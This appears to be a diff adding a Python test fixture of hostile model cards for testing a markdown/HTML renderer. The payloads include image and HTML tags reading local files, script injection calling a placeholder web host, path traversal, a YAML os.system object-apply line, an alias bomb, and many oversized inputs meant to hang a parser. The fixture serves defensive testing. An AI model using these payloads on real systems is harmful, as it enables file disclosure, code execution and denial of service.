@@ -1,0 +1,96 @@
+"""Model cards as an attacker writes them: each tries to read a file, send a request, run something, or hold us up.
+
+``{file}`` stands for the address of a file of this machine, ``{path}`` for its path, ``{web}`` for a server that counts
+who comes.
+"""
+
+from __future__ import annotations
+
+#: Name, and the card.
+HOSTILE_CARDS: dict[str, str] = {
+    # Pictures
+    "picture of a file": "![x]({file})",
+    "picture by path": "![x]({path})",
+    "picture in angle brackets": "![x](<{file}>)",
+    "picture by reference": "![x][r]\n\n[r]: {file}",
+    "picture from the web": "![x]({web}/a.png)",
+    "picture without a scheme": "![x](//{host}/a.png)",
+    "picture by reference from the web": "![x][r]\n\n[r]: {web}/a.png",
+    "picture in a link": "[![badge]({web}/badge.png)]({file})",
+    "picture in a table": "| a |\n|---|\n| ![x]({file}) |",
+    "picture in a quote": "> ![x]({file})",
+    "picture in a heading": "# ![x]({web}/a.png)",
+    "picture in a list": "- [ ] ![x]({file})",
+    "picture as data": "![x](data:image/png;base64,iVBORw0KGgo=)",
+    "drawing as data that fetches": "![x](data:image/svg+xml;utf8,<svg><image href='{file}'/></svg>)",
+    "picture from a program": "![x](qrc:/qt-project.org/logos/pysidelogo.png)",
+    "picture that leads out": "![x](../../../../../../..{path})",
+    "picture on a share": "![x](\\\\{host}\\share\\a.png)",
+    "picture with a drive": "![x](C:/Windows/win.ini)",
+    "picture with a coded scheme": "![x](fi%6ce://{path})",
+    "picture in capitals": "![x](FILE://{path})",
+    # HTML
+    "img": "<img src='{file}'>",
+    "img from the web": "<img src={web}/a.png>",
+    "img with sizes": "<img srcset='{web}/a.png 2x' src='{file}'>",
+    "img in a paragraph": "Text <img src='{file}'> text",
+    "background of the body": "<body background='{file}'>x</body>",
+    "background of a cell": "<table><tr><td background='{file}'>x</td></tr></table>",
+    "style sheet": "<link rel='stylesheet' href='{file}'>",
+    "style": "<style>@import url('{web}/a.css'); body {{ background: url({file}) }}</style>",
+    "style of an element": "<div style=\"background-image: url('{file}')\">x</div>",
+    "script": "<script>fetch('{web}/a')</script>",
+    "script from the web": "<script src='{web}/a.js'></script>",
+    "frame": "<iframe src='{file}'></iframe>",
+    "object": "<object data='{file}'></object>",
+    "embed": "<embed src='{web}/a'>",
+    "video": "<video src='{web}/a.mp4' poster='{file}' autoplay></video>",
+    "audio": "<audio src='{file}' autoplay></audio>",
+    "drawing": "<svg><image xlink:href='{file}'/><use href='{web}/a.svg#x'/></svg>",
+    "refresh": "<meta http-equiv='refresh' content='0;url={web}/a'>",
+    "base": "<base href='{file}'>\n\n![x](a.png)",
+    "form": "<form action='{web}/a'><input type=submit autofocus></form>",
+    "event": "<img src=x onerror='fetch(\"{web}/a\")'>",
+    "HTML in a fence that is not closed": "```html\n<img src='{file}'>",
+    "HTML behind an entity": "&lt;img src='{file}'&gt; &#60;img src='{file}'&#62;",
+    "comment": "<!-- <img src='{file}'> -->",
+    # Links
+    "link to a file": "[x]({file})",
+    "link in angle brackets": "<{file}>",
+    "link to a script": "[x](javascript:alert(1))",
+    "link to a script with a break": "[x](java\nscript:alert(1))",
+    "link to a program": "[x](vscode://file/{path})",
+    "link to a share": "[x](smb://{host}/share)",
+    "link to data": "[x](data:text/html,<script>alert(1)</script>)",
+    "link to a page of Qt": "[x](qrc:/index.html)",
+    "link with a name and a word": "[x](https://user:word@{host}/)",
+    "link that says another": "[https://huggingface.co](mailto:a@example.org?attach={path})",
+    "link without a host": "[x](http:///etc/passwd)",
+    "link to itself": "[x](#x)\n\n# x",
+    "link with a title": "[x]({file} \"https://huggingface.co\")",
+    # Metadata
+    "metadata that runs": "---\nlicense: !!python/object/apply:os.system ['touch {path}.ran']\n---\n# x",
+    "metadata that grows": "---\n" + "a: &a [x,x,x,x,x,x,x,x,x]\n" + "\n".join(
+        f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]" for n in range(9)
+    ) + "\n---\n# x",
+    "metadata without an end": "---\n" + "a: b\n" * 20_000,
+    "metadata that includes": "---\nlicense: !include {path}\nwidget: [{{src: '{file}'}}]\n---\n# x",
+    # What holds up
+    "deep quotes": ">" * 20_000 + "x",
+    "deep lists": "\n".join("  " * n + "- x" for n in range(1_000)),
+    "deep brackets": "[" * 30_000 + "x" + "]" * 30_000,
+    "stars": "*" * 60_000 + "x",
+    "underscores": "_x" * 30_000,
+    "backticks": "`" * 60_000,
+    "one line": "word " * 100_000,
+    "one word": "x" * 500_000,
+    "wide table": "|" + "a|" * 3_000 + "\n|" + "-|" * 3_000 + "\n|" + "b|" * 3_000,
+    "many links": "[x]({web}/a) " * 5_000,
+    "many references": "\n".join(f"[{n}]: {{web}}/{n}" for n in range(3_000)) + "\n\n[1][2]" * 100,
+    "many headings": "# x\n" * 30_000,
+    "half a surrogate": "x\ud800x ![x]({file})",
+    "null": "x\0![x]({file})\0",
+    "direction": "\u202e![x]({file})\u202d\u2066[x]({web})\u2069",
+    "marks on a letter": "a" + "\u0301" * 60_000,
+    "bells": "\x07\x1b]0;owned\x07\x1b[31mred",
+}  # fmt: skip
